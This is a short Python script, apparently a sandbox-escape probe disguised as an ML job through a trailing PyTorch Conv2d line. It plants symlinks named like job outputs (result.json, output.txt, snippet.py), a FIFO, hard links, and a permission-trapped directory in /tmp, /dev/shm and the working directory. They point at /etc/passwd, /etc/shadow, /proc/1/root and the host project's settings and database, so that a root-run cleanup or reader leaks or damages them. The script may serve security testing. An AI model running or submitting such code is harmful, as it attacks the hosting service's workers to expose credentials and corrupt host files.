"""Plant symlinks (and a FIFO) in the job's writable places, named like files a worker might
read, chown or delete after the job, pointing at the host's /etc and the project directory."""
import errno
import json
import os

from torch import nn
import torch as _torch_for_path
PROJECT = _torch_for_path.__file__.split("/.venv/")[0]

TARGETS = {
    "result.json": "/etc/passwd",
    "output.txt": "/etc/shadow",
    "snippet.py": PROJECT + "/config/settings/base.py",
    "stride.sqlite3": PROJECT + "/var/stride.sqlite3",
    "root": "/",
    "project": PROJECT,
    "proc-root": "/proc/1/root",
    "loop": "loop",
}
report = {}
for directory in ("/tmp", "/dev/shm", "."):
    for name, target in TARGETS.items():
        path = os.path.join(directory, name)
        try:
            os.symlink(target, path)
            report[path] = "PLANTED"
        except OSError as exc:
            report[path] = errno.errorcode.get(exc.errno, str(exc))
    try:
        os.mkfifo(os.path.join(directory, "stdout.fifo"))
        report[directory + "/stdout.fifo"] = "PLANTED"
    except OSError as exc:
        report[directory + "/stdout.fifo"] = errno.errorcode.get(exc.errno, str(exc))
    for name in ("hard-passwd", "hard-python"):
        try:
            os.link("/etc/passwd" if name == "hard-passwd" else os.__file__,
                    os.path.join(directory, name))
            report[directory + "/" + name] = "LINKED"
        except OSError as exc:
            report[directory + "/" + name] = errno.errorcode.get(exc.errno, str(exc))
os.makedirs("/tmp/deep/a/b/c", exist_ok=True)
os.symlink("/etc", "/tmp/deep/a/b/c/etc")
os.chmod("/tmp/deep", 0)  # a cleaner running as root would still walk in
print("REPORT " + json.dumps(report), flush=True)
model = nn.Conv2d(3, 8, 3)
